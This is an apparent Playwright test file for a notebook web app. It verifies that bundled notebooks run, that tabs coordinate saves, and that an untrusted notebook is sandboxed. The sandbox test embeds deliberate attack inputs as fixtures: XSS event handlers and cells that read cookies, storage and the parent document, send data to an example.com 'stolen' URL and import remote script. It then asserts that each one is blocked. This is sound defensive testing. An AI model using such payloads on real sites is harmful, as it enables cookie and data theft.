import { test as plain, type FrameLocator, type Page } from 'playwright/test';
import { shipped } from '../../src/lib/workbench/notebook/library.ts';
import { expect, test } from './workbench.ts';

const frameOf = (page: Page): FrameLocator => page.frameLocator('iframe[title^="Notebook"]');
const status = (page: Page) => page.locator('[data-state]');

const file = (cells: readonly (readonly [string, string])[]) =>
	`<!doctype html>\n<notebook theme="air">\n  <title>Guest</title>\n${cells
		.map(([type, text], i) => `  <script id="${i + 1}" type="${type}">\n    ${text}\n  </script>`)
		.join('\n')}\n</notebook>\n`;

async function openFile(page: Page, name: string, text: string): Promise<void> {
	await page.goto('/notebook?backend=wasm');
	await expect(status(page)).toBeVisible();
	await page
		.getByLabel('Notebook file')
		.setInputFiles({ name, mimeType: 'text/html', buffer: Buffer.from(text) });
	await expect(page.getByText('From elsewhere: nothing runs until you say so.')).toBeVisible();
}

test('the shipped notebooks run from top to bottom', async ({ page }) => {
	test.setTimeout(600_000);
	await page.goto(`/notebook?backend=wasm&notebook=${shipped[0]!.name}`);
	await expect(page.getByRole('radio', { name: 'C-Abstractor' })).toBeAttached({ timeout: 120_000 });
	for (const { name, title } of shipped) {
		await page.getByLabel('Notebook', { exact: true }).selectOption(name);
		await expect(frameOf(page).getByRole('heading', { level: 1, name: title })).toBeVisible({
			timeout: 60_000
		});
		await expect(status(page), name).toHaveText(/^\d+ cells$/, { timeout: 180_000 });
		await expect(frameOf(page).locator('.error'), name).toHaveCount(0);
		const shown = await frameOf(page).locator('.output svg, .output table').count();
		expect(shown, `${name} shows figures and tables`).toBeGreaterThanOrEqual(2);
	}
});

// What is refused is logged by the browser, so this test listens to no console.
plain('a notebook from elsewhere runs nothing until trusted, and then reaches nothing', async ({ page }) => {
	const outside: string[] = [];
	// Only what the policy lets out comes by here.
	await page.context().route('https://example.com/**', (route) => {
		outside.push(route.request().url());
		return route.fulfill({ body: 'export default 1', contentType: 'text/javascript' });
	});
	const attempt = (what: string) =>
		`await (async () => { try { return String(await (${what})) } catch (error) { return "refused" } })()`;
	await openFile(
		page,
		'guest.html',
		file([
			['text/markdown', '# Guest <img src="x" onerror="document.title = 1"> <b onclick="x()">bold</b>'],
			['module', attempt('localStorage.length')],
			['module', attempt('document.cookie.length + indexedDB.open("x").readyState')],
			['module', attempt('fetch("/models/index.json").then((r) => r.status)')],
			['module', attempt('fetch("https://example.com/?stolen").then((r) => r.status)')],
			['module', attempt('parent.document.body.innerHTML')],
			['module', attempt('import("https://example.com/x.js")')]
		])
	);
	const frame = frameOf(page);
	await expect(frame.getByRole('heading', { name: 'Guest' })).toBeVisible();
	await expect(frame.getByText('Not run.')).toHaveCount(6);
	expect(await frame.locator('[onclick], [onerror]').count()).toBe(0);

	await page.getByRole('button', { name: 'Trust and run' }).click();
	// Two are refused while the cell's names are looked up, before its own code can catch it.
	const refused = frame.locator('.output', { hasText: 'refused' });
	const barred = frame.getByRole('alert').filter({ hasText: /document is sandboxed|cross-origin frame/ });
	await expect(refused.or(barred)).toHaveCount(6, { timeout: 60_000 });
	expect(outside).toEqual([]);
});

test('two tabs do not overwrite each other', async ({ page, context }) => {
	await page.goto('/notebook?backend=wasm');
	await expect(status(page)).toBeVisible();
	await page.getByRole('button', { name: 'New' }).click();
	await expect(frameOf(page).getByRole('heading', { name: 'Untitled' })).toBeVisible({ timeout: 60_000 });
	await expect(page).toHaveURL(/notebook=[0-9a-f-]{36}/);

	const other = await context.newPage();
	await other.goto(page.url());
	await expect(other.getByText(/is open in another tab/)).toBeVisible({ timeout: 60_000 });
	await other.getByRole('button', { name: 'Take it over' }).click();
	await expect(page.getByText(/is open in another tab/)).toBeVisible();
	await expect(other.getByText(/is open in another tab/)).toHaveCount(0);

	await frameOf(other).getByRole('button', { name: 'Add Markdown' }).click();
	await other.keyboard.type('# From the other tab');
	await expect(other.getByText('Saved in this browser.')).toBeVisible();
	// The tab that only reads follows.
	await expect(frameOf(page).getByRole('heading', { name: 'From the other tab' })).toBeVisible();
});
